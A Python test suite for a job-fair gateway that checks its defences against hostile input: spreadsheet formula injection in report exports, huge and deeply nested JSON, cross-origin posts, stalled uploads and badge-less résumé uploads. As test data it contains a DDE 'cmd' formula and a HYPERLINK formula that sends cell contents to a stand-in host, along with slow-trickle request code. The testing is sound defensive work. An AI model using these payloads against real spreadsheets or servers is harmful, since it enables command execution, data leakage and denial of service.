"""Hostile input: formula cells in exports, oversized, deep and cross-origin bodies, slow and
dropped uploads, résumés without an identity."""

from __future__ import annotations

import asyncio
import csv
import io
import logging
import os
import sys
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import openpyxl
import orjson
import pytest
from aiohttp import web
from pydantic import BaseModel
from support import Gateway, eventually
from test_checkins import forge

from fairhub import keys
from fairhub.config import Settings
from fairhub.gateway.bodies import read_public_model, reply
from fairhub.gateway.errors import error_middleware
from fairhub.gateway.guards import body_guard
from fairhub.report import spreadsheet_cell

HYPERLINK = '=HYPERLINK("http://x"&A1,"点击查看")'
PDF = b"%PDF-1.7\n" + b"resume body " * 100


async def _session(gateway: Gateway, fair: str, token: str, employer: str) -> str:
    status, body = await gateway.request(
        "POST",
        f"/v1/fairs/{fair}/live-sessions",
        token,
        json={"title": "宣讲会", "employer_ids": [employer], "platform": "抖音"},
    )
    assert status == 201, body
    return str(body["id"])


# ---------- Spreadsheet exports ----------


def test_formula_text_is_neutralized_and_numbers_stay_numbers() -> None:
    for text in ("=1+2", "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1)", "\tx", "\r=1", HYPERLINK):
        assert spreadsheet_cell(text) == "'" + text
    # A figure is a number, negative too; text that is a whole number is read as one, not run.
    for value in (-5, 0, 3.5, "-12", "+86", "2.5", "华为", ""):
        assert spreadsheet_cell(value) == value
    assert spreadsheet_cell(None) == ""


async def _renamed_employer_fair(gateway: Gateway) -> tuple[str, str]:
    """A fair whose employer named itself a formula with its own token."""
    fair, token = await gateway.create_fair("@秋季双选会")
    employer = await gateway.create(fair, token, "employers", name="正常企业", booth="-12")
    status, body = await gateway.request(
        "PATCH", f"/v1/fairs/{fair}/employers/{employer['id']}", employer["token"],
        json={"name": HYPERLINK},
    )  # fmt: skip
    assert status == 200 and body["name"] == HYPERLINK, body
    await gateway.create(fair, token, "employers", name="+1 东区", booth="=A1")
    return fair, token


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _check_neutralized(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert "'@秋季双选会" in cells and "'+1 东区" in cells and "'=A1" in cells
    assert "-12" in cells  # a booth that is a plain number is left alone
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # Figures are still bare numbers in the summary (the metric's value column).
    assert rows[4][1].isdigit()


async def test_the_organizers_report_csv_carries_no_live_formula(
    gateway: Gateway, settings: Settings, tmp_path: Path
) -> None:
    fair, token = await _renamed_employer_fair(gateway)
    for lang in ("zh", "en"):
        async with gateway.session.get(
            f"{gateway.base}/v1/fairs/{fair}/report.csv?lang={lang}",
            headers={"Authorization": f"Bearer {token}"},
        ) as response:
            assert response.status == 200
            _check_neutralized(_cells(await response.read()))

    # `fairhub report FAIR -o report.csv` writes the same neutralized cells.
    out = tmp_path / "report.csv"
    env = {**os.environ, "FAIRHUB_DATABASE_URL": str(settings.database_url)}
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "fairhub", "report", fair, "-o", str(out), env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    _, err = await process.communicate()
    assert process.returncode == 0, err
    _check_neutralized(_cells(out.read_bytes()))

    # And `-o report.xlsx`: a workbook whose every text cell is a plain string, none a formula.
    book = tmp_path / "report.xlsx"
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "fairhub", "report", fair, "-o", str(book), env=env,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    _, err = await process.communicate()
    assert process.returncode == 0, err
    workbook = openpyxl.load_workbook(book)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'=HYPERLINK(") for c in cells)


# ---------- JSON bodies ----------


def _many_keys(count: int) -> bytes:
    return orjson.dumps({f"k{n}": n for n in range(count)})


async def _chunks(data: bytes) -> AsyncIterator[bytes]:
    """A body sent chunked: no Content-Length for the server to refuse it by."""
    for start in range(0, len(data), 64 * 1024):
        yield data[start : start + 64 * 1024]


async def test_huge_and_deep_bodies_are_refused_while_the_gate_admits(gateway: Gateway) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="华为")
    session = await _session(gateway, fair, token, employer["id"])
    device = await gateway.create(fair, token, "devices", label="东门 1")
    seekers = [await gateway.create(fair, token, "seekers", name=f"学生{n}") for n in range(6)]
    presence = f"/live/{session}/presence"
    huge = _many_keys(180_000)
    assert len(huge) > 2_000_000
    json_type = {"Content-Type": "application/json"}

    async def hostile(n: int) -> tuple[int, Any]:
        # A 2 MB object of 180,000 keys, with its length and chunked; "[" * 1000.
        if n % 3 == 0:
            return await gateway.request(
                "POST", presence, None, data=io.BytesIO(huge), headers=json_type
            )
        if n % 3 == 1:
            return await gateway.request(
                "POST", presence, None, data=_chunks(huge), headers=json_type
            )
        return await gateway.request("POST", presence, None, data="[" * 1000, headers=json_type)

    async def admitted(seeker: dict[str, Any]) -> float:
        started = time.monotonic()
        status, body = await gateway.request(
            "POST", f"/v1/fairs/{fair}/checkins", device["token"],
            json={"id": uuid.uuid4().hex, "badge": seeker["badge"]},
        )  # fmt: skip
        assert status == 200 and body["verdict"] == "admitted", body
        return time.monotonic() - started

    started = time.monotonic()
    answers, waits = await asyncio.gather(
        asyncio.gather(*(hostile(n) for n in range(12))),
        asyncio.gather(*(admitted(s) for s in seekers)),
    )
    assert time.monotonic() - started < 10  # generous: a loaded 2-core machine
    assert max(waits) < 10
    for n, (status, body) in enumerate(answers):
        expected = (413, "too_large") if n % 3 != 2 else (400, "invalid_json")
        assert (status, body["error"], body["fields"]) == (*expected, ["body"]), body

    # Well-formed but 1,000 deep: 400 naming the body, on a public call and on /events.
    deep = ("[" * 1000 + "]" * 1000).encode()
    deep_object = ('{"a":' * 1000 + "1" + "}" * 1000).encode()
    for path, who, body_bytes in (
        (presence, None, deep),
        (f"/v1/fairs/{fair}/events", token, deep),
        (f"/v1/fairs/{fair}/events", token, b'{"events": [' + deep_object + b"]}"),
        # A batch of flat events, one of them 2,000 members wide: refused all the same.
        (f"/v1/fairs/{fair}/events", token, b'{"events": [{"id": 1}, ' + _many_keys(2000) + b"]}"),
        (f"/v1/fairs/{fair}/events", token, b"[" * 1000),
        (f"/v1/fairs/{fair}/employers", token, b"[" * 100_000 + b"]" * 100_000),
    ):
        status, answer = await gateway.request(
            "POST", path, who, data=body_bytes, headers=json_type
        )
        assert status == 400 and answer["fields"] == ["body"], (path, status, answer)


async def test_a_422_lists_a_few_errors_and_counts_the_rest(gateway: Gateway) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="华为")
    session = await _session(gateway, fair, token, employer["id"])
    json_type = {"Content-Type": "application/json"}
    # Under the public cap: every key is an unknown field.
    small = _many_keys(600)
    assert len(small) < 8 * 1024
    status, body = await gateway.request(
        "POST", f"/live/{session}/presence", None, data=small, headers=json_type
    )
    assert status == 422, body
    assert len(body["fields"]) <= 21 and body["error_count"] >= 600
    assert "more errors" in body["detail"]
    # An authenticated call keeps its 2 MB cap; 900 wrong keys are listed as 20 and counted.
    status, body = await gateway.request(
        "PATCH", f"/v1/fairs/{fair}", token, data=_many_keys(900), headers=json_type
    )
    assert status == 422 and body["error_count"] == 900, body
    assert len(body["fields"]) == 20 and len(orjson.dumps(body)) < 5_000
    # 120,000 keys in one object (2 MB), at the top or inside an event: refused before
    # pydantic spends half a second on them, with a small answer.
    big = _many_keys(120_000)
    event = b'{"events": [{"id": "ev-12345678", "type": "checkin", ' + big[1:] + b"]}"
    for method, path, data in (
        ("PATCH", f"/v1/fairs/{fair}", big),
        ("POST", f"/v1/fairs/{fair}/events", event),
    ):
        async with gateway.session.request(
            method, gateway.base + path, data=io.BytesIO(data),
            headers={**json_type, "Authorization": f"Bearer {token}"},
        ) as response:  # fmt: skip
            raw = await response.read()
        assert response.status == 400, raw[:500]
        assert orjson.loads(raw)["fields"] == ["body"] and len(raw) < 1_000


async def test_public_calls_take_json_only(gateway: Gateway) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="华为")
    session = await _session(gateway, fair, token, employer["id"])
    status, issued = await gateway.request("POST", f"/live/{session}/viewer", None, json={})
    assert status == 201, issued
    viewer = {"viewer_id": issued["viewer_id"], "kind": "join"}
    question = {"id": "q-000001", "viewer_id": issued["viewer_id"], "employer_id": employer["id"]}
    question["question"] = "宣讲会几点结束?"
    # What a page of another site can send without a CORS preflight: refused, not counted.
    for path, body in (("presence", viewer), ("questions", question)):
        for content_type in ("text/plain", "application/x-www-form-urlencoded", ""):
            status, answer = await gateway.request(
                "POST", f"/live/{session}/{path}", None, data=orjson.dumps(body),
                headers={"Content-Type": content_type, "Origin": "https://evil.example"},
            )  # fmt: skip
            assert status == 415, answer
            assert answer["fields"] == ["Content-Type"]
    status, answer = await gateway.request("POST", f"/live/{session}/presence", None, json=viewer)
    assert status == 200, answer
    status, answer = await gateway.request(
        "POST", f"/live/{session}/questions", None, json=question
    )
    assert status == 202, answer
    # The API proper is called with a token by programs, not by pages: its types are unchanged.
    status, answer = await gateway.request(
        "POST", f"/v1/fairs/{fair}/employers", token, data=orjson.dumps({"name": "腾讯"}),
        headers={"Content-Type": "text/plain"},
    )  # fmt: skip
    assert status == 201, answer


async def test_a_phone_still_uploads_a_large_resume(gateway: Gateway) -> None:
    """The public cap is for JSON and forms: a seeker's résumé keeps the résumé limit."""
    fair, _ = await gateway.create_fair()
    base = f"/p/{fair}"
    status, answer = await gateway.request(
        "POST",
        base + "/signup",
        None,
        json={"consent": True, "name": "张三", "phone": "13900000001"},
    )
    assert status == 201, answer
    seeker = answer["token"]
    status, answer = await gateway.request(
        "POST", base + "/signup", None, json={"name": "张" * 10_000, "phone": "13900000002"}
    )
    assert (status, answer["fields"]) == (413, ["body"]), answer
    big = PDF + b"\x00" * 3_000_000
    form = aiohttp.FormData()
    form.add_field("file", io.BytesIO(big), filename="简历.pdf", content_type="application/pdf")
    status, answer = await gateway.request("PUT", base + "/me/resume", seeker, data=form)
    assert status == 200 and answer["size"] == len(big), answer


async def test_read_public_model_guards_any_path(settings: Settings) -> None:
    """What a public endpoint calls for its own, smaller cap (and JSON only) on any path."""

    class Presence(BaseModel):
        viewer_id: str

    async def handler(request: web.Request) -> web.Response:
        body = await read_public_model(request, Presence, most=64)
        return reply({"viewer_id": body.viewer_id})

    app = web.Application(middlewares=[error_middleware(1), body_guard(settings)])
    app[keys.SETTINGS] = settings
    app.router.add_post("/v1/anything", handler)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    url = f"http://127.0.0.1:{port}/v1/anything"
    try:
        async with aiohttp.ClientSession() as client:
            for data, content_type, status in (
                (b'{"viewer_id": "v-1"}', "application/json", 200),
                (b'{"viewer_id": "v-1"}', "text/plain", 415),
                (orjson.dumps({"viewer_id": "v" * 100}), "application/json", 413),
            ):
                headers = {"Content-Type": content_type}
                async with client.post(url, data=data, headers=headers) as response:
                    assert response.status == status, await response.text()
    finally:
        await runner.cleanup()


# ---------- Uploads ----------


class Raw:
    """An HTTP/1.1 request written by hand, so that it can stall or stop half way."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    @classmethod
    async def open(cls, gateway: Gateway, path: str, content_type: str, length: int) -> Raw:
        host, port = gateway.base.removeprefix("http://").split(":")
        reader, writer = await asyncio.open_connection(host, int(port))
        head = (
            f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {content_type}\r\n"
            f"Content-Length: {length}\r\n\r\n"
        )
        writer.write(head.encode())
        await writer.drain()
        return cls(reader, writer)

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def trickle(self) -> None:
        """A byte every 0.2 s, until the server stops listening."""
        try:
            while True:
                await self.send(b"x")
                await asyncio.sleep(0.2)
        except OSError:
            return

    async def answer(self, timeout: float) -> tuple[int, bytes]:
        """The status and the whole answer, which must come within `timeout`."""
        async with asyncio.timeout(timeout):
            head = await self.reader.readuntil(b"\r\n\r\n")
            length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
            raw = head + await self.reader.readexactly(length)
        return int(raw.split(b" ", 2)[1]), raw

    async def closed(self, timeout: float) -> bool:
        """The server closes the connection within `timeout`."""
        async with asyncio.timeout(timeout):
            return await self.reader.read() == b""

    def close(self) -> None:
        self.writer.close()


def _multipart_head(badge: str | None, employer: str) -> bytes:
    parts = [("badge", badge)] if badge is not None else []
    text = "".join(
        f'--B\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in [*parts, ("employer_id", employer)]
    )
    file = 'Content-Disposition: form-data; name="file"; filename="cv.pdf"\r\n'
    return (text + "--B\r\n" + file + "Content-Type: application/pdf\r\n\r\n").encode() + PDF


async def test_stalled_bodies_are_cut_by_the_body_timeout(settings: Settings) -> None:
    # Bodies have 2 s to arrive here (30 s for uploads, 10 s for JSON in production).
    quick = {"upload_timeout_seconds": 2, "body_timeout_seconds": 2}
    async with Gateway.running(settings.model_copy(update=quick)) as gateway:
        await _stalled(gateway)


async def _stalled(gateway: Gateway) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="华为")
    seeker = await gateway.create(fair, token, "seekers", name="张三")
    session = await _session(gateway, fair, token, employer["id"])
    upload = await Raw.open(
        gateway, f"/v1/fairs/{fair}/resumes", "multipart/form-data; boundary=B", 5_000_000
    )
    await upload.send(_multipart_head(seeker["badge"], employer["id"]))
    presence = await Raw.open(gateway, f"/live/{session}/presence", "application/json", 4000)
    await presence.send(b'{"viewer_id": ')
    trickles = [asyncio.create_task(r.trickle()) for r in (upload, presence)]
    try:
        for raw in (upload, presence):
            # Cut after 2 s; the connection ends with the 408 (no keep-alive for a trickler).
            status, answer = await raw.answer(timeout=30)
            assert status == 408 and b"body_timeout" in answer, answer
            assert await raw.closed(timeout=15), answer
    finally:
        for task in trickles:
            task.cancel()
        for raw in (upload, presence):
            raw.close()
    # The gateway serves as before.
    status, answer = await gateway.request("GET", f"/v1/fairs/{fair}", token)
    assert status == 200, answer


async def test_a_resume_needs_an_identity_before_its_file(gateway: Gateway) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="华为")
    seeker = await gateway.create(fair, token, "seekers", name="张三")
    path = f"/v1/fairs/{fair}/resumes"
    # No token and nothing that could carry a badge: 401, not 400.
    for body, content_type in ((b"{}", "application/json"), (b"", "")):
        status, answer = await gateway.request(
            "POST", path, None, data=body, headers={"Content-Type": content_type}
        )
        assert (status, answer["fields"]) == (401, ["badge"]), answer
    # A multipart body whose file comes with no badge before it, or with a forged badge:
    # 401 at once, while the client has sent only the start of a 5 MB file and waits.
    forged = forge(seeker["badge"])
    for badge, error in ((None, "unauthorized"), (forged, "invalid_badge")):
        raw = await Raw.open(gateway, path, "multipart/form-data; boundary=B", 5_000_000)
        try:
            # The head and the start of the file: aiohttp reads a part a chunk ahead.
            await raw.send(_multipart_head(badge, employer["id"]) + PDF * 20)
            status, answer = await raw.answer(timeout=15)
        finally:
            raw.close()
        assert status == 401 and error.encode() in answer, (badge, answer)
    # With the badge first, as every FairHub page sends it, the upload goes through.
    form = _multipart_head(seeker["badge"], employer["id"]) + b"\r\n--B--\r\n"
    status, answer = await gateway.request(
        "POST", path, None, data=form,
        headers={"Content-Type": "multipart/form-data; boundary=B"},
    )  # fmt: skip
    assert status == 201, answer


async def test_a_dropped_upload_is_not_a_database_alarm(
    gateway: Gateway, caplog: pytest.LogCaptureFixture
) -> None:
    fair, token = await gateway.create_fair()
    employer = await gateway.create(fair, token, "employers", name="华为")
    seeker = await gateway.create(fair, token, "seekers", name="张三")
    caplog.set_level(logging.DEBUG, logger="fairhub.gateway.errors")
    raw = await Raw.open(
        gateway, f"/v1/fairs/{fair}/resumes", "multipart/form-data; boundary=B", 5_000_000
    )
    await raw.send(_multipart_head(seeker["badge"], employer["id"]) + PDF * 20)
    await asyncio.sleep(0.5)  # the handler is reading the file part
    raw.writer.transport.abort()

    async def noticed() -> bool:
        return any("client went away" in r.getMessage() for r in caplog.records)

    await eventually(noticed, timeout=10)
    messages = [r.getMessage() for r in caplog.records]
    assert not [m for m in messages if "unavailable" in m or "unhandled" in m], messages
